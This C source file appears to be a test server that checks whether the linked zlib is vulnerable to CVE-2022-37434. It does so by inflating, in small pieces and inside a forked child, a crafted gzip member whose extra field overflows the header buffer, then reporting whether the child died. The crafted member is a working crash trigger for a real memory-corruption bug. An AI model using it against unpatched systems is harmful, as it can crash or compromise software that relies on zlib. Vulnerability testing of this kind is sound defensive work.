/*
 * A server of libz.so: answers a line for each line it reads.
 *   ok      inflates a gzip member in one piece: "fine"
 *   attack  does, in a child that may die of it, what an attacker makes it do: a member whose extra field is longer than the room
 *           for it, in pieces (CVE-2022-37434): "fine", or "died N" with the signal
 */
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
#include <zlib.h>

/* "patched?" with an extra field of 32 bytes */
static const unsigned char member[] = {
    0x1f, 0x8b, 8, 4, 0, 0, 0, 0, 0, 3, 32, 0, 'e', 'x', 't', 'r', 'a', ' ', 'f', 'i', 'e', 'l', 'd', ' ', 'o', 'f', ' ', 't',
    'h', 'i', 'r', 't', 'y', ' ', 't', 'w', 'o', ' ', 'b', 'y', 't', 'e', 's', '.',
    /* one stored block */
    1, 8, 0, 0xf7, 0xff, 'p', 'a', 't', 'c', 'h', 'e', 'd', '?'};

static const char *inflate_in(unsigned piece) {
  unsigned char extra[4], text[64];
  gz_header header = {.extra = extra, .extra_max = sizeof extra};
  z_stream stream = {.next_out = text, .avail_out = sizeof text};
  if (inflateInit2(&stream, 31) != Z_OK || inflateGetHeader(&stream, &header) != Z_OK) return "no zlib";
  int result = Z_OK;
  for (unsigned at = 0; at < sizeof member && result == Z_OK; at += piece) {
    stream.next_in = (unsigned char *)member + at;
    stream.avail_in = sizeof member - at < piece ? (unsigned)sizeof member - at : piece;
    result = inflate(&stream, Z_NO_FLUSH);
  }
  inflateEnd(&stream);
  return result == Z_OK && memcmp(text, "patched?", 8) == 0 ? "fine" : "wrong";
}

int main(void) {
  char line[32];
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("ready %d\n", (int)getpid());
  while (fgets(line, sizeof line, stdin)) {
    if (strcmp(line, "ok\n") == 0) puts(inflate_in(sizeof member));
    if (strcmp(line, "attack\n") != 0) continue;
    int status;
    pid_t child = fork();
    if (child == 0) _exit(strcmp(inflate_in(7), "fine"));
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) printf("died %d\n", WTERMSIG(status));
    else puts(WEXITSTATUS(status) == 0 ? "fine" : "wrong");
  }
  return 0;
}
